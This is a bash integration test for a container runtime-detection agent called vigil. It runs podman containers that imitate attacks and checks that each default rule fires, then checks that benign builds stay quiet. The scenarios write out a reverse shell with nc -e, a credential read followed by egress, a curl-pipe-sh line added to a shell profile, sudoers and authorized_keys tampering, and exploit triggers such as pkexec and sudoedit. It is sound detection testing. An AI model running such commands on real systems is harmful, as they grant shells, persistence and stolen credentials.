#!/bin/bash
# test_default_rules.sh: `vigil run` with its default rules and store, as a
# real agent, while real podman containers do what each default rule is about
# (one container per scenario). Each scenario must give exactly the expected
# set of rules for its container, and the alerts must be in the store. Then
# benign work (compiling and running a program, building a Debian package,
# Redis serving load, a container reading its own files) must raise nothing
# at WARNING or above.
# shellcheck disable=SC2016,SC2317
set -u
cd "$(dirname "$0")/../.." || exit 1
# shellcheck source=tests/integration/lib.sh
. tests/integration/lib.sh

it_need_root
it_need_bpf
it_need_jq
it_need_vigil
it_need_podman
ATTACK=$(realpath "$BUILD/tests/attack")
[ -x "$ATTACK" ] || it_die "attack tool missing (make tests)"

M=$$
PORT=$((20000 + M % 20000))
EXFIL_IP=198.51.100.77 # TEST-NET-2: a "public" address that stays on this machine
AGENT_PID=""
LISTENER_PIDS=()

cleanup() {
	[ -n "$AGENT_PID" ] && kill -KILL "$AGENT_PID" 2>/dev/null
	for p in "${LISTENER_PIDS[@]}"; do kill "$p" 2>/dev/null; done
	ip addr del "$EXFIL_IP/32" dev lo 2>/dev/null
	vg_podman ps -a --format '{{.Names}}' 2>/dev/null | grep "^vgr-$M-" | xargs -r vg_podman rm -f >/dev/null 2>&1
	it_cleanup_common
}
trap cleanup EXIT
trap 'exit 1' INT TERM

it_mktemp
OUT=$IT_TMP/alerts.json
ERR=$IT_TMP/agent.err
DB=$IT_TMP/store.db

# --- the agent, ready when it reports a host program run from /tmp (a NOTICE rule)
cp /bin/true "$IT_TMP/ready-$M"
"$VIGIL" run --store "$DB" --json --duration 1800 >"$OUT" 2>"$ERR" &
AGENT_PID=$!
for ((i = 0; i < 100; i++)); do
	kill -0 "$AGENT_PID" 2>/dev/null || it_die "vigil run exited at startup: $(cat "$ERR")"
	"$IT_TMP/ready-$M"
	grep -q "ready-$M" "$OUT" 2>/dev/null && break
	sleep 0.2
done
grep -q "ready-$M" "$OUT" || it_die "vigil run reported nothing within 20 s: $(cat "$ERR")"
# sync_alerts: wait (bounded) until the agent reports a fresh host program run
# from /tmp, so that the alerts of everything done before are in OUT
SYNC=0
sync_alerts() {
	local i
	SYNC=$((SYNC + 1))
	cp /bin/true "$IT_TMP/sync-$M-$SYNC"
	for ((i = 0; i < 100; i++)); do
		"$IT_TMP/sync-$M-$SYNC"
		grep -q "sync-$M-$SYNC" "$OUT" 2>/dev/null && return 0
		sleep 0.2
	done
	it_fail "the agent did not report sync-$M-$SYNC within 20 s"
}

# --- scenarios: name | podman options | command | expected rules (sorted, ';'-separated)
declare -a S_NAME S_OPTS S_CMD S_WANT
scenario() { S_NAME+=("$1"); S_OPTS+=("$2"); S_CMD+=("$3"); S_WANT+=("$4"); }

scenario tty "-t" 'true' \
	"Interactive shell in container"
scenario token "" 'mkdir -p /var/run/secrets/kubernetes.io/serviceaccount && echo t >/var/run/secrets/kubernetes.io/serviceaccount/token && cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null' \
	"Sensitive file read by unexpected program"
scenario bindir "" 'echo x >/usr/bin/evil' \
	"Write below binary directory"
scenario etc "" 'echo x >/etc/evil.conf' \
	"Write below /etc in container"
scenario pkg "" 'ln -s /bin/busybox /tmp/apk && /tmp/apk add x; true' \
	"Package manager in container"
scenario drift "" 'cp /bin/busybox /tmp/dropped && /tmp/dropped true' \
	"Drift - new executable run in container"
scenario shm "--tmpfs /dev/shm:rw,exec" 'cp /bin/busybox /dev/shm/x && /dev/shm/x true' \
	"Program run from /dev/shm"
scenario tmp "--tmpfs /tmp" 'cp /bin/busybox /tmp/x && /tmp/x true' \
	"Execution from /tmp in container"
scenario memfd "-v $ATTACK:/attack:ro" '/attack memfd-exec /bin/busybox true' \
	"Fileless execution"
scenario ptrace "--cap-add SYS_PTRACE -v $ATTACK:/attack:ro" 'sleep 5 & /attack ptrace-attach $!; kill $!' \
	"Container started with dangerous capabilities;Ptrace attach to another process"
scenario revshell "--network host" "nc 127.0.0.1 $PORT -e /bin/sh" \
	"Network tool in container;Reverse shell"
scenario miner "" 'busybox echo stratum+tcp://pool.example:3333 >/dev/null' \
	"Crypto miner"
scenario mount "--privileged" 'mkdir -p /mnt && mount -t tmpfs none /mnt' \
	"Mount in container;Privileged container started"
scenario hostdev "--privileged" 'mount -o ro /dev/vda /mnt 2>/dev/null; mount -o ro /dev/sda /mnt 2>/dev/null; true' \
	"Host device mounted in container;Privileged container started"
scenario release "" 'echo /x >/tmp/release_agent' \
	"Write to cgroup release_agent"
scenario corepattern "--privileged" 'cat /proc/sys/kernel/core_pattern >/tmp/cp && cat /tmp/cp >/proc/sys/kernel/core_pattern' \
	"Privileged container started;Write to kernel core_pattern"
scenario procsys "--privileged" 'echo 1 >/proc/sys/net/ipv4/ip_forward' \
	"Privileged container started;Write to /proc/sys in container"
scenario nsenter "--privileged" 'nsenter -t 1 -u true' \
	"Namespace change from container;Nsenter in container;Privileged container started"
# pid 1 executes twice more (sh -> sh -> true): one container, one start
scenario reexec "--privileged" 'exec sh -c "exec true"' \
	"Privileged container started"
scenario module "" 'insmod /bin/busybox 2>/dev/null; true' \
	"Kernel module loaded from container"
scenario userns "" 'unshare -U true 2>/dev/null; true' \
	"User namespace created in container"
scenario setuid "" 'cp /bin/busybox /tmp/x && chmod u+s /tmp/x' \
	"Setuid or setgid bit set"
scenario sudoers "" 'echo "x ALL=(ALL) ALL" >>/etc/sudoers' \
	"Sudoers modified"
scenario logs "" 'mkdir -p /var/log && echo a >>/var/log/app.log && : >/var/log/app.log' \
	"Log file tampering"
scenario history "" 'echo ls >>/root/.ash_history && rm /root/.ash_history' \
	"Shell history tampering"
scenario metadata "-v $ATTACK:/attack:ro" '/attack connect 169.254.169.254 80' \
	"Cloud metadata service contacted from container"
scenario k8sapi "--network host -v $ATTACK:/attack:ro" '/attack connect 127.0.0.1 6443' \
	"Kubernetes API contacted from container"
scenario debugfs "" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/debugfs && /usr/local/bin/debugfs 2>/dev/null; true' \
	"Debugfs in container"
scenario packet "-v $ATTACK:/attack:ro" '/attack packet-socket 2>/dev/null; true' \
	"Packet socket created in container"
scenario links "" 'mkdir -p /root/.ssh && echo k >/root/.ssh/id_rsa && ln /root/.ssh/id_rsa /tmp/h && ln -s /etc/shadow /tmp/s' \
	"Link to sensitive file"
scenario search "" 'grep -r id_rsa /etc >/dev/null; find /etc -name id_rsa >/dev/null; true' \
	"Credential search"
scenario environ "" 'sleep 2 & cat /proc/$!/environ >/dev/null; kill $!' \
	"Process environment read in container"
scenario traversal "" 'mkdir -p /srv/www && cd /srv/www && cat ../../etc/hostname >/dev/null' \
	"Directory traversal to a system file"
scenario preload "" 'echo /nonexistent.so >/etc/ld.so.preload' \
	"Dynamic linker preload modified"
scenario authkeys "" 'mkdir -p /root/.ssh && echo "ssh-ed25519 AAAAC3Nza x@y" >>/root/.ssh/authorized_keys' \
	"SSH authorized keys modified"
scenario cron "" 'mkdir -p /etc/cron.d && echo "* * * * * root /tmp/x" >/etc/cron.d/x' \
	"Cron job written"
scenario shred "" 'echo data >/tmp/f && shred -u /tmp/f' \
	"Bulk data destruction"
# a server that runs a command through a shell (system()): the container's shell renamed
# to nginx (an image program, so that a drift guard of another agent cannot stop it)
scenario server "" 'printf nginx >/proc/self/comm && /bin/sh -c id >/dev/null; true' \
	"Shell spawned by a server"
scenario shellrc "" 'echo "curl -s x | sh" >>/root/.profile' \
	"Shell configuration modified"
scenario usermgmt "" 'passwd -d root >/dev/null 2>&1; true' \
	"User account changed in container;Write below /etc in container"
scenario devfile "" 'echo payload >/dev/.cache' \
	"File created below /dev"
scenario exfil "--network host -v $ATTACK:/attack:ro" "mkdir -p /root/.aws && echo k >/root/.aws/credentials && cat /root/.aws/credentials >/dev/null && /attack connect $EXFIL_IP $((PORT + 1))" \
	"Sensitive file read by unexpected program;Sensitive read then egress"

# what Falco's rule files catch that the first set of rules did not (docs/rules.md, "Compared
# with Falco's rules"). Busybox's shell runs many applets without execve (or through
# /proc/self/exe): a program meant to be seen is named by its path.
scenario decode "" 'echo aWQK | base64 -d | sh >/dev/null' \
	"Decoded payload piped to a shell;Payload decoded in container"
scenario unshare "" 'unshare -m true 2>/dev/null; true' \
	"Namespace unshare in container"
scenario traceme "-v $ATTACK:/attack:ro" '/attack ptrace-traceme' \
	"Ptrace anti-debugging"
scenario uffd "-v $ATTACK:/attack:ro" '/attack userfaultfd 2>/dev/null; true' \
	"Userfaultfd used by an unprivileged or contained process"
scenario pwnkit "-v $ATTACK:/attack:ro" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/pkexec && /attack exec-noargv /usr/local/bin/pkexec 2>/dev/null; true' \
	"Pkexec run without arguments"
scenario samedit "" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/sudoedit && sudoedit -s \\ 2>/dev/null; true' \
	"Sudoedit heap overflow attempt"
scenario tunables "" 'GLIBC_TUNABLES=glibc.malloc.mxfast=1 /bin/true' \
	"GLIBC_TUNABLES in a program's environment"
scenario sysuser "-t --user 65534" 'true' \
	"Interactive session of a system user"
scenario npm "" 'printf npm >/proc/self/comm && /bin/wget -q -O /dev/null http://127.0.0.1:1/ 2>/dev/null; true' \
	"Network tool run by a package install"
scenario srvchild "" 'printf nginx >/proc/self/comm && /bin/id >/dev/null; true' \
	"Suspicious program started by a server"
scenario kubectl "" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/kubectl && kubectl get pods 2>/dev/null; true' \
	"Kubernetes client tool in container"
scenario rsync "" 'mkdir -p /usr/local/bin && ln -s /bin/busybox /usr/local/bin/rsync && rsync -a /etc x:/ 2>/dev/null; true' \
	"Remote file copy tool in container"
scenario recon "-t" '/bin/id >/dev/null; true' \
	"Interactive shell in container;Reconnaissance in an interactive container session"
scenario xz "" 'mkdir -p /opt && echo x >/opt/liblzma.so.5.6.1 && printf sshd >/proc/self/comm && read x </opt/liblzma.so.5.6.1; true' \
	"Backdoored liblzma loaded by sshd"
scenario repo "" 'mkdir -p /etc/apk && echo http://mirror.invalid/alpine >>/etc/apk/repositories' \
	"Package repository changed"
scenario binmod "" 'rm -f /bin/ps && mv /bin/sort /bin/sort.old' \
	"Binary directory modified"
scenario chmodx "" 'echo x >/tmp/f && chmod +x /tmp/f' \
	"Executable bit set in container"
scenario minerport "-v $ATTACK:/attack:ro" '/attack connect 127.0.0.1 3333' \
	"Mining pool port contacted from container"
scenario sshport "-v $ATTACK:/attack:ro" 'mkdir -p /usr/local/bin && ln -s /attack /usr/local/bin/ssh && ssh connect 127.0.0.1 2222' \
	"SSH to a non-standard port"
scenario memdev "--privileged" 'head -c 1 /dev/mem >/dev/null 2>&1; true' \
	"Kernel memory device opened in container;Privileged container started"
scenario entrypoint "" 'echo x >/proc/self/exe 2>/dev/null; true' \
	"Container entrypoint overwritten"
scenario sysadmin "--cap-add SYS_ADMIN" 'true' \
	"Container started with dangerous capabilities"
scenario hostmount "-v /etc:/hostetc:ro" 'true' \
	"Container started with a sensitive host mount"

# listeners on this machine for the reverse shell and the exfiltration
busybox nc -l -p "$PORT" </dev/null >/dev/null 2>&1 &
LISTENER_PIDS+=($!)
ip addr add "$EXFIL_IP/32" dev lo || it_die "cannot add $EXFIL_IP to lo"
busybox httpd -f -p "$EXFIL_IP:$((PORT + 1))" -h "$IT_TMP" &
LISTENER_PIDS+=($!)
# listening PORT: whether a TCP socket of this machine listens on PORT
listening() {
	awk -v p="$(printf ':%04X' "$1")" '$4 == "0A" && substr($2, length($2) - 4) == p { f = 1 }
		END { exit !f }' /proc/net/tcp /proc/net/tcp6 2>/dev/null
}
for ((i = 0; i < 100; i++)); do
	listening "$PORT" && listening $((PORT + 1)) && break
	sleep 0.1
done

for i in "${!S_NAME[@]}"; do
	# shellcheck disable=SC2086 # options are words on purpose
	it_bounded 30 vg_podman run --rm --name "vgr-$M-${S_NAME[$i]}" ${S_OPTS[$i]} "$IT_IMAGE" sh -c "${S_CMD[$i]}" \
		>/dev/null 2>"$IT_TMP/podman-${S_NAME[$i]}.err" </dev/null ||
		echo "note: scenario ${S_NAME[$i]} exited non-zero: $(head -c 300 "$IT_TMP/podman-${S_NAME[$i]}.err")"
done

# --- benign work: nothing at WARNING or above, judged on the alerts of its own
# session (a new one, made by setsid) and container, so that whatever else runs on
# the machine meanwhile does not count
sync_alerts
BENIGN_FROM=$(wc -l <"$OUT")
export IT_TMP
echo $((PORT + 2)) >"$IT_TMP/redis.port"
setsid bash -c 'echo $$ >"$IT_TMP/benign.sid"; exec bash "$0"' /dev/stdin <<'BENIGN' || it_fail "benign build work failed"
	cd "$IT_TMP" || exit 1
	printf '#include <stdio.h>\nint main(void){puts("ok");return 0;}\n' >hello.c
	cc -O2 -o hello hello.c && ./hello >/dev/null
	mkdir -p pkg/DEBIAN pkg/usr/share/doc/vgtest
	printf 'Package: vgtest\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@t>\nDescription: t\n' >pkg/DEBIAN/control
	echo doc >pkg/usr/share/doc/vgtest/README
	dpkg-deb --build pkg vgtest.deb >/dev/null
	if command -v redis-server >/dev/null && command -v redis-benchmark >/dev/null; then
		port=$(cat redis.port)
		redis-server --port "$port" --save '' --appendonly no --daemonize no >/dev/null &
		sleep 0.5
		redis-benchmark -p "$port" -n 5000 -q -t set,get >/dev/null 2>&1 || exit 1
		kill $!
	fi
BENIGN
vg_podman run --rm --name "vgr-$M-benign" "$IT_IMAGE" sh -c 'i=0; while [ $i -lt 100 ]; do cat /etc/passwd /etc/hosts >/dev/null; ls / >/dev/null; i=$((i+1)); done' >/dev/null 2>&1
sync_alerts

# --- stop the agent (clean stop flushes the store)
kill -INT "$AGENT_PID"
for ((i = 0; i < 150; i++)); do kill -0 "$AGENT_PID" 2>/dev/null || break; sleep 0.1; done
wait "$AGENT_PID" 2>/dev/null
rc=$?
AGENT_PID=""
[ "$rc" -eq 0 ] || it_fail "vigil run exited with $rc: $(tail -5 "$ERR")"

jq -e . "$OUT" >/dev/null || it_die "alerts are not JSON lines"
for i in "${!S_NAME[@]}"; do
	name="vgr-$M-${S_NAME[$i]}"
	got=$(jq -r --arg n "$name" 'select(.vigil.event.container.name == $n) | .rule' "$OUT" | sort -u | paste -sd ';')
	if [ "${S_NAME[$i]}" = hostdev ] && [ -z "$got" ]; then
		echo "note: no block device to mount here; hostdev scenario not judged"
		continue
	fi
	# a kernel without module support has no tracepoint for init_module: the default
	# attachment does not see its attempts (they can only fail with ENOSYS; docs/cli.md)
	if [ "${S_NAME[$i]}" = module ] && [ -z "$got" ] && grep -q "attempts are not captured per syscall" "$ERR"; then
		echo "note: this kernel builds no module syscalls and the default attachment does not see their attempts; module scenario not judged"
		continue
	fi
	[ "$got" = "${S_WANT[$i]}" ] || it_fail "scenario ${S_NAME[$i]}: expected [${S_WANT[$i]}], got [$got]: $(
		jq -c --arg n "$name" 'select(.vigil.event.container.name == $n) | [.rule, .output_fields["proc.name"], .output]' "$OUT" | head -c 1500)"
done

# a pid 1 that executes again is not another container start
n=$(jq -r --arg n "vgr-$M-reexec" 'select(.vigil.event.container.name == $n and .rule == "Privileged container started")
	| .rule' "$OUT" | wc -l)
[ "$n" -eq 1 ] || it_fail "a pid 1 executing three times reported $n container starts, not 1"

# every alert has Falco's keys and the container's context
n=$(jq -c 'select((.time and .rule and .priority and .output and .output_fields and .source and .tags and .hostname) | not)' "$OUT" | wc -l)
[ "$n" -eq 0 ] || it_fail "$n alerts lack Falco's keys"

# benign phase
BSID=$(cat "$IT_TMP/benign.sid" 2>/dev/null || echo 0)
tail -n +"$((BENIGN_FROM + 1))" "$OUT" | jq -c --argjson sid "$BSID" --arg c "vgr-$M-benign" '
	select(.priority | IN("Emergency","Alert","Critical","Error","Warning"))
	| select(.vigil.event.process.sid == $sid or .vigil.event.container.name == $c) | {rule, output}' >"$IT_TMP/benign"
[ ! -s "$IT_TMP/benign" ] || it_fail "benign work raised alerts: $(head -c 2000 "$IT_TMP/benign")"
# the session filter sees the benign work: its program run from /tmp is a NOTICE
n=$(jq -c --argjson sid "$BSID" 'select(.vigil.event.process.sid == $sid and .rule == "Execution from /tmp on host")' "$OUT" | wc -l)
[ "$n" -ge 1 ] || it_fail "no alert seen from the benign session $BSID: the benign check would be blind"

# the store holds what was printed
printed=$(wc -l <"$OUT")
stored=$("$VIGIL" alerts --store "$DB" --json | wc -l)
[ "$printed" -eq "$stored" ] || it_fail "printed $printed alerts, the store holds $stored"
n=$("$VIGIL" alerts --store "$DB" --json --container "vgr-$M-drift" --priority critical | jq -r .rule | sort -u)
[ "$n" = "Drift - new executable run in container" ] || it_fail "vigil alerts --container/--priority gave: $n"

it_finish
